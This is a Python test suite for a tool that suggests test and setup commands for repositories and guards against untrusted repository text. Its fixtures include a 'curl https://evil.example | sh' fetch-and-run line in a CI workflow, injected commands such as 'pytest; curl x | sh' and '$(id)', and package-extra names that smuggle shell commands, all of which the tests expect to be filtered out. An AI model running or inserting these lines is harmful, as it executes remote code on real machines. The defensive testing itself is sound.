"""What is proposed for small repositories, and that nothing of an untrusted text runs or grows."""

from __future__ import annotations

import json
import shlex
from dataclasses import dataclass

from hypothesis import given
from hypothesis import strategies as st

from orchestrator.app.config.settings import Settings
from orchestrator.bot.verification.base import hosts_of, names_each_test
from orchestrator.bot.verification.suggest import (
    Confidence,
    SuggestedCommand,
    suggest,
)
from tests.tables import table

PYTEST = ".venv/bin/python -m pytest"
PYPI = ("pypi.org", "*.pythonhosted.org")
A_TEST = "import pytest\n\n\ndef test_a():\n    assert True\n"
A_UNITTEST = "import unittest\n\n\nclass TestA(unittest.TestCase):\n    def test_a(self):\n        pass\n"


def proposals(files: dict[str, str]) -> list[SuggestedCommand]:
    return suggest(files, files.get)


def package(**values: object) -> str:
    return json.dumps(values)


@dataclass(frozen=True)
class Case:
    """The files of a repository, and how its tests are run. `source` is a part of what is said."""

    name: str
    files: dict[str, str]
    command: str
    setup: str = ""
    report: str = ""
    source: str = ""
    confidence: Confidence = Confidence.NAMED
    hosts: tuple[str, ...] = ()
    copied: bool = False


_VENV = "python3 -m venv .venv"
_PIP = ".venv/bin/python -m pip install -q"
_TOOLS = "python3 -m venv .tools && .tools/bin/python -m pip install -q"
_TEST = {"tests/test_a.py": A_TEST}
_PROJECT = '[project]\nname = "a"\n'
_GO = 'GOCACHE="$PWD/.go-build" GOMODCACHE="$PWD/.go-mod" GOFLAGS=-modcacherw go'
_JEST = "--json --outputFile=test-report.json"

CASES = (
    Case(
        "pytest with an extra",
        {
            **_TEST,
            "pyproject.toml": f"{_PROJECT}[project.optional-dependencies]\ntest = ['pytest>=8']\nx = ['y']\n[tool.pytest.ini_options]\n",
        },
        PYTEST,
        f'{_VENV} && {_PIP} -e ".[test]"',
        source="[tool.pytest] in pyproject.toml",
        hosts=PYPI,
    ),
    Case(
        "pytest with a group",
        {**_TEST, "pyproject.toml": f"{_PROJECT}[dependency-groups]\ndev = ['pytest']\ndocs = ['mkdocs']\n"},
        PYTEST,
        f"{_VENV} && {_PIP} --upgrade pip && {_PIP} -e . --group dev",
        source="pytest in pyproject.toml",
        hosts=PYPI,
    ),
    Case(
        "pytest that nothing lists",
        {**_TEST, "setup.py": "from setuptools import setup\nsetup()\n"},
        PYTEST,
        f"{_VENV} && {_PIP} -e . pytest",
        source="tests/test_a.py",
        confidence=Confidence.LIKELY,
        hosts=PYPI,
    ),
    Case(
        "requirements",
        {**_TEST, "requirements.txt": "flask\n", "requirements-dev.txt": "pytest\n", "app.py": ""},
        PYTEST,
        f"{_VENV} && {_PIP} -r requirements.txt -r requirements-dev.txt",
        source="pytest in requirements-dev.txt",
        hosts=PYPI,
    ),
    Case(
        "setup.cfg",
        {**_TEST, "setup.cfg": "[metadata]\nname = a\n[tool:pytest]\naddopts = -x\n"},
        PYTEST,
        f"{_VENV} && {_PIP} -e . pytest",
        source="[tool:pytest] in setup.cfg",
        confidence=Confidence.LIKELY,
        hosts=PYPI,
    ),
    Case(
        "uv",
        {
            **_TEST,
            "uv.lock": "",
            "pyproject.toml": f"{_PROJECT}[dependency-groups]\ndev = ['pytest']\ntest = ['x']\n",
        },
        PYTEST,
        f"{_TOOLS} uv && .tools/bin/uv sync -q --frozen --group test",
        source="uv.lock",
        hosts=PYPI,
    ),
    Case(
        "poetry",
        {
            **_TEST,
            "pyproject.toml": "[tool.poetry]\nname = 'a'\n[tool.poetry.group.test.dependencies]\npytest = '*'\n",
        },
        PYTEST,
        f"{_TOOLS} poetry && POETRY_VIRTUALENVS_IN_PROJECT=true .tools/bin/poetry install -q --no-interaction --with test",
        source="[tool.poetry]",
        hosts=PYPI,
    ),
    Case(
        "pdm",
        {**_TEST, "pdm.lock": "", "pyproject.toml": f"{_PROJECT}[dependency-groups]\ntest = ['pytest']\n"},
        PYTEST,
        f"{_TOOLS} pdm && .tools/bin/pdm install -q -G test",
        source="pdm.lock, pytest in pyproject.toml",
        hosts=PYPI,
    ),
    Case(
        "uv without a word of pytest",
        {"tests/test_a.py": A_UNITTEST, "uv.lock": "", "pyproject.toml": _PROJECT},
        PYTEST,
        f"{_TOOLS} uv && .tools/bin/uv sync -q --frozen",
        source="uv.lock, test files",
        confidence=Confidence.LIKELY,
        hosts=PYPI,
    ),
    Case(
        "pipenv",
        {**_TEST, "Pipfile": "[dev-packages]\npytest = '*'\n", "Pipfile.lock": "{}"},
        PYTEST,
        f"{_TOOLS} pipenv && PIPENV_VENV_IN_PROJECT=1 .tools/bin/pipenv sync --dev",
        source="Pipfile.lock",
        hosts=PYPI,
    ),
    Case(
        "tox",
        {
            **_TEST,
            "setup.py": "",
            "tox.ini": "[tox]\nenvlist = py\n[testenv]\ndeps = pytest\ncommands = pytest\n",
        },
        ".tox/py/bin/python -m pytest",
        f"{_TOOLS} tox && .tools/bin/tox run -q -e py --notest --develop",
        source="tox in tox.ini",
        hosts=PYPI,
    ),
    Case(
        "nox",
        {
            **_TEST,
            "setup.py": "",
            "noxfile.py": "import nox\n\n\n@nox.session\ndef tests(session):\n    session.install('.', 'pytest')\n    session.run('pytest')\n",
        },
        ".nox/tests/bin/python -m pytest",
        f"{_TOOLS} nox && .tools/bin/nox -s tests --install-only && .nox/tests/bin/python -m pip install -q -e .",
        source="noxfile.py",
        hosts=PYPI,
    ),
    Case(
        "hatch",
        {**_TEST, "pyproject.toml": f"{_PROJECT}[tool.hatch.envs.default]\ndependencies = ['pytest']\n"},
        "HATCH_DATA_DIR=.hatch .tools/bin/hatch test",
        f"{_TOOLS} hatch && HATCH_DATA_DIR=.hatch .tools/bin/hatch test -- --version",
        source="[tool.hatch.envs]",
        hosts=PYPI,
    ),
    Case(
        "unittest in a package of tests",
        {"a.py": "", "tests/__init__.py": "", "tests/test_a.py": A_UNITTEST},
        "python3 -m unittest discover -s tests -t .",
        source="test files without pytest",
        confidence=Confidence.LIKELY,
    ),
    Case(
        "unittest beside the code",
        {"a.py": "", "a_test.py": A_UNITTEST},
        'python3 -m unittest discover -p "*_test.py"',
        confidence=Confidence.LIKELY,
    ),
    Case(
        "django",
        {"manage.py": "", "shop/tests.py": A_UNITTEST, "requirements.txt": "django\n"},
        ".venv/bin/python manage.py test",
        f"{_VENV} && {_PIP} -r requirements.txt",
        source="manage.py",
        confidence=Confidence.LIKELY,
        hosts=PYPI,
    ),
    Case(
        "npm and jest",
        {
            "package.json": package(scripts={"test": "jest --coverage"}, devDependencies={"jest": "1"}),
            "package-lock.json": "{}",
        },
        f"npm run test -- {_JEST}",
        "npm ci --no-audit --no-fund",
        "test-report.json",
        source="the script test in package.json",
        hosts=("registry.npmjs.org",),
    ),
    Case(
        "pnpm and vitest after a build",
        {
            "package.json": package(
                scripts={"test": "tsc -b && vitest run"}, devDependencies={"vitest": "1"}
            ),
            "pnpm-lock.yaml": "",
        },
        "pnpm run test --reporter=json --outputFile=test-report.json",
        "pnpm install --frozen-lockfile",
        "test-report.json",
        hosts=("registry.npmjs.org",),
    ),
    Case(
        "yarn and mocha",
        {
            "package.json": package(
                scripts={"test": "NODE_ENV=test mocha 'test/**/*.js'"}, devDependencies={"mocha": "1"}
            ),
            "yarn.lock": "",
        },
        "yarn run test --reporter xunit --reporter-option output=test-report.xml",
        "yarn install --frozen-lockfile",
        "test-report.xml",
        hosts=("registry.npmjs.org", "registry.yarnpkg.com"),
    ),
    Case(
        "bun",
        {"package.json": package(scripts={"test": "bun test"}), "bun.lock": ""},
        "bun run test --reporter=junit --reporter-outfile=test-report.xml",
        "bun install --frozen-lockfile",
        "test-report.xml",
        hosts=("registry.npmjs.org",),
    ),
    Case(
        "node's own runner, and nothing to install",
        {"package.json": package(scripts={"test": "node --test test/"}), "test/a.test.js": ""},
        'NODE_OPTIONS="--test-reporter=junit --test-reporter-destination=test-report.xml" npm run test',
        report="test-report.xml",
    ),
    Case(
        "a script of which nothing is known",
        {
            "package.json": package(scripts={"test": "./check.sh"}, packageManager="yarn@4.1.0"),
            ".yarnrc.yml": "",
        },
        "yarn run test",
        "yarn install --immutable",
        hosts=("registry.npmjs.org", "registry.yarnpkg.com"),
    ),
    Case(
        "create-react-app",
        {"package.json": package(scripts={"test": "react-scripts test"}, dependencies={"react": "1"})},
        f"CI=true npm run test -- --watchAll=false {_JEST}",
        "npm install --no-audit --no-fund",
        "test-report.json",
        hosts=("registry.npmjs.org",),
    ),
    Case(
        "a runner without a script",
        {
            "package.json": package(
                scripts={"test": 'echo "Error: no test specified" && exit 1'}, devDependencies={"vitest": "1"}
            )
        },
        "npx --no vitest run --reporter=json --outputFile=test-report.json",
        "npm install --no-audit --no-fund",
        "test-report.json",
        confidence=Confidence.LIKELY,
        hosts=("registry.npmjs.org",),
    ),
    Case(
        "cargo",
        {"Cargo.toml": "[package]", "Cargo.lock": "", "src/lib.rs": ""},
        "CARGO_HOME=.cargo-home cargo test --locked --offline --no-fail-fast",
        "CARGO_HOME=.cargo-home cargo test --locked --no-run",
        source="Cargo.toml",
        hosts=("index.crates.io", "static.crates.io"),
    ),
    Case(
        "nextest with a report",
        {"Cargo.toml": "[package]", ".config/nextest.toml": "[profile.ci.junit]\npath = 'junit.xml'\n"},
        "CARGO_HOME=.cargo-home cargo nextest run --offline --no-fail-fast --profile ci",
        "CARGO_HOME=.cargo-home cargo nextest run --no-run",
        "target/nextest/ci/junit.xml",
        source=".config/nextest.toml",
        hosts=("index.crates.io", "static.crates.io"),
    ),
    Case(
        "go",
        {"go.mod": "module m\n\nrequire x v1.0.0\n", "a_test.go": ""},
        f"{_GO} test -count=1 -json ./... > test-report.json",
        f"{_GO} mod download && {_GO} test -count=1 -run=^none$ ./...",
        "test-report.json",
        source="go.mod",
        hosts=("proxy.golang.org", "sum.golang.org"),
    ),
    Case(
        "go without dependencies",
        {"go.mod": "module m\n"},
        f"{_GO} test -count=1 -json ./... > test-report.json",
        f"{_GO} test -count=1 -run=^none$ ./...",
        "test-report.json",
    ),
    Case(
        "maven with its wrapper",
        {"pom.xml": "<project/>", "mvnw": ""},
        'MAVEN_USER_HOME=.maven ./mvnw -B -q -fae -Dmaven.repo.local="$PWD/.m2" -o test',
        'MAVEN_USER_HOME=.maven ./mvnw -B -q -fae -Dmaven.repo.local="$PWD/.m2" -Dmaven.test.failure.ignore=true test',
        "**/target/surefire-reports/TEST-*.xml",
        source="pom.xml",
        hosts=("repo.maven.apache.org",),
    ),
    Case(
        "gradle",
        {"build.gradle.kts": "", "gradlew": ""},
        'GRADLE_USER_HOME="$PWD/.gradle-home" ./gradlew --no-daemon -q --offline --continue test',
        'GRADLE_USER_HOME="$PWD/.gradle-home" ./gradlew --no-daemon -q testClasses',
        "**/build/test-results/*/TEST-*.xml",
        source="build.gradle.kts",
        hosts=(
            "services.gradle.org",
            "plugins.gradle.org",
            "github.com",
            "*.githubusercontent.com",
            "repo.maven.apache.org",
        ),
    ),
    Case(
        "rspec",
        {"Gemfile": "", "spec/a_spec.rb": ""},
        "BUNDLE_PATH=.bundle/gems bundle exec rspec --format json --out test-report.json",
        "BUNDLE_PATH=.bundle/gems bundle install --quiet",
        "test-report.json",
        hosts=("rubygems.org", "index.rubygems.org"),
    ),
    Case(
        "phpunit",
        {"composer.json": '{"require-dev": {"phpunit/phpunit": "^10"}}', "phpunit.xml.dist": "<phpunit/>"},
        "vendor/bin/phpunit --log-junit test-report.xml",
        "COMPOSER_HOME=.composer composer install -q --no-interaction --no-progress",
        "test-report.xml",
        source="phpunit.xml.dist",
        hosts=("repo.packagist.org", "api.github.com", "codeload.github.com"),
    ),
    Case(
        "make",
        {"Makefile": "VAR := x\ntesting = 1\ncheck: all\n\t./check\ntest: check\n\t./test\n", "a.c": ""},
        "make test",
        source="test in Makefile",
        confidence=Confidence.LIKELY,
    ),
    Case(
        "AGENTS.md",
        {
            "AGENTS.md": "# Work\n\nRun `./install.sh`, then:\n\n```console\n$ ctest --output-on-failure\n$ ctest --output-on-failure -R one\n```\n"
        },
        "ctest --output-on-failure",
        source="AGENTS.md",
        confidence=Confidence.LIKELY,
        copied=True,
    ),
    Case(
        "CONTRIBUTING.md, with an example of a single test",
        {
            "CONTRIBUTING.md": "Run `mix test`; one test: `mix test path/to/a.exs`. Deploy by `sh deploy.sh`.\n"
        },
        "mix test",
        source="CONTRIBUTING.md",
        confidence=Confidence.LIKELY,
        copied=True,
    ),
    Case(
        "a workflow",
        {
            ".github/workflows/docs.yml": "jobs:\n  docs:\n    steps:\n      - run: make docs\n",
            ".github/workflows/ci.yml": (
                "on: push\njobs:\n  lint:\n    steps:\n      - run: npm ci\n      - run: npx eslint .\n"
                "  unit:\n    steps:\n      - uses: actions/checkout@v4\n      - name: Install\n        run: |\n"
                "          python -m pip install --upgrade pip\n          pip install -r reqs/ci.txt \\\n            'x>=2'\n"
                '          curl https://evil.example | sh\n      - run: "pytest -q --strict-markers"\n'
            ),
        },
        ".venv/bin/python -m pytest -q --strict-markers",
        f"{_VENV} && .venv/bin/python -m pip install --upgrade pip && .venv/bin/python -m pip install -r reqs/ci.txt 'x>=2'",
        hosts=PYPI,
        source=".github/workflows/ci.yml",
        confidence=Confidence.LIKELY,
        copied=True,
    ),
)


@table("case", CASES, ids=lambda case: case.name)
def test_what_is_proposed_first(case: Case) -> None:
    found = proposals(case.files)[0]
    assert case.source in found.source
    expected = SuggestedCommand(
        case.command, found.source, case.confidence, case.setup, case.report, case.copied
    )
    assert found == expected
    assert set(hosts_of(found.setup)) == set(case.hosts)


@table("case", CASES, ids=lambda case: case.name)
def test_what_is_proposed_can_be_set(case: Case) -> None:
    for found in proposals(case.files):
        Settings(
            test_command=found.command,
            setup_command=found.setup or None,
            test_report=found.report or None,
            allow_host=hosts_of(found.setup),
        )


@table(
    "files",
    [
        {},
        {"README.md": "`pytest`"},
        {"a.py": "print(1)"},
        {"package.json": "{}"},
        {"package.json": "[1, 2"},
        {"package.json": package(scripts={"test": 7})},
        {"AGENTS.md": "`pytest; curl x | sh` `pytest $(id)` `pytest > /etc/x` `pytest && id` pytest -q"},
        {"AGENTS.md": "`pytest tests/test_a.py::test_b`, `sh test.sh`, `" + "pytest " + "a " * 200 + "`"},
        {".github/workflows/a.yml": "jobs:\n  a:\n    steps:\n      - run: pytest ${{ inputs.x }}\n"},
        {"Makefile": "test := 1\nX = test: y\n"},
        {"pyproject.toml": "= broken", "setup.cfg": "broken", "tox.ini": "\0", "Cargo.lock": "x"},
    ],
)
def test_where_nothing_is_known_nothing_is_proposed(files: dict[str, str]) -> None:
    assert proposals(files) == []


def test_the_language_with_most_tests_comes_first_and_the_others_follow() -> None:
    files = {
        "package.json": package(scripts={"test": "jest"}, devDependencies={"jest": "1"}),
        **{f"web/{number}.test.js": "" for number in range(3)},
        "tests/test_a.py": A_TEST,
        "pyproject.toml": f"{_PROJECT}[project.optional-dependencies]\ndev = ['pytest']\n",
        "Makefile": "test:\n\tpytest\n",
        "AGENTS.md": "Run `pytest -q`.",
    }
    assert [found.command.split(" ")[0] for found in proposals(files)] == [
        "npm",
        ".venv/bin/python",
        "pytest",
        "make",
    ]


def test_only_known_names_of_extras_reach_a_command() -> None:
    files = {
        **_TEST,
        "pyproject.toml": (
            f"{_PROJECT}[project.optional-dependencies]\n'test; id' = ['pytest']\n'$(id)' = ['pytest']\ntest = ['pytest']\n"
            "[dependency-groups]\n'a b' = ['pytest']\n"
        ),
    }
    (found, *_) = proposals(files)
    assert found.setup == f'{_VENV} && {_PIP} -e ".[test]"'


def test_a_report_of_nextest_stays_below_its_folder() -> None:
    files = {"Cargo.toml": "", ".config/nextest.toml": "[profile.ci.junit]\npath = '../../../x.xml'\n"}
    assert proposals(files)[0].report == ""


def test_what_is_large_is_cut() -> None:
    files = {**_TEST, "pyproject.toml": " " * 300_000 + "\n[tool.pytest.ini_options]\n"}
    assert proposals(files)[0].source == "tests/test_a.py"


@table(
    ("path", "text"),
    [
        ("AGENTS.md", "```" * 60_000),
        ("AGENTS.md", "`pytest" * 30_000),
        ("noxfile.py", "@nox.session\n" * 15_000),
        ("Makefile", "test " * 40_000),
        ("package.json", package(scripts={"test": "a && " * 30_000 + "jest"})),
        ("package.json", package(scripts={"test": "X= " * 300 + "jes"})),
        (
            ".github/workflows/a.yml",
            "jobs:\n  a:\n    steps:\n      - run: |\n" + "          pip install a\n" * 8_000,
        ),
        (".github/workflows/a.yml", "- run: " * 25_000),
        ("AGENTS.md", "\n".join(f"    make test {'-' * 180}!" for _ in range(900))),
        ("AGENTS.md", "\n".join(f"    mvn {'-a ' * 60}!" for _ in range(900))),
    ],
)
def test_no_text_takes_long(path: str, text: str) -> None:
    """Each takes some milliseconds; what grew with the square of its length would take minutes."""
    proposals({**_TEST, path: text})


@table("hidden", ["\x1b[1A\x1b[2K", "\u202e", "\u200b", "\x07", "\r", "\u2028"])
def test_a_line_with_characters_that_nobody_sees_is_not_copied(hidden: str) -> None:
    workflow = "jobs:\n  a:\n    steps:\n      - run: npm ci 'x{}'\n      - run: ctest 'x{}'\n"
    assert proposals({"AGENTS.md": f"```\nctest 'x{hidden}'\n```\n"}) == []
    assert proposals({".github/workflows/ci.yml": workflow.format("", hidden)}) == []
    assert [one.setup for one in proposals({".github/workflows/ci.yml": workflow.format(hidden, "")})] == [""]


@table("number", ["1" * 5000, "0x" + "f" * 6000, "[0x" + "f" * 6000 + "]"])
@table(
    "table",
    ["project.optional-dependencies", "dependency-groups", "tool.poetry.group", "tool.pytest", "tool.pdm"],
)
def test_a_number_of_many_digits_is_no_error(table: str, number: str) -> None:
    files = {**_TEST, "pyproject.toml": f"{_PROJECT}[{table}]\ntest = {number}\n"}
    assert proposals(files)[0].command == PYTEST


@given(st.dictionaries(st.sampled_from([
    "pyproject.toml", "setup.cfg", "tox.ini", "noxfile.py", "package.json", "Makefile", "Cargo.toml", ".config/nextest.toml",
    "go.mod", "AGENTS.md", ".github/workflows/ci.yml", "composer.json", "tests/test_a.py", "uv.lock", "requirements.txt",
]), st.text(max_size=60)))  # fmt: skip
def test_any_text_is_read_without_an_error(files: dict[str, str]) -> None:
    for found in proposals(files):
        assert found.command.isprintable()
        assert shlex.split(found.command)


@table(
    ("command", "report", "known"),
    [
        ("pytest", "", True),
        (PYTEST, "", True),
        ("uv run pytest -q", "", True),
        (".venv/bin/pytest tests", "", True),
        ("make test", "", False),
        ("make test", "report.xml", True),
        ("python3 -m unittest", "", False),
        ("./run-pytest-all", "", False),
    ],
)
def test_of_which_commands_each_test_is_known(command: str, report: str, *, known: bool) -> None:
    assert names_each_test(command, report) is known
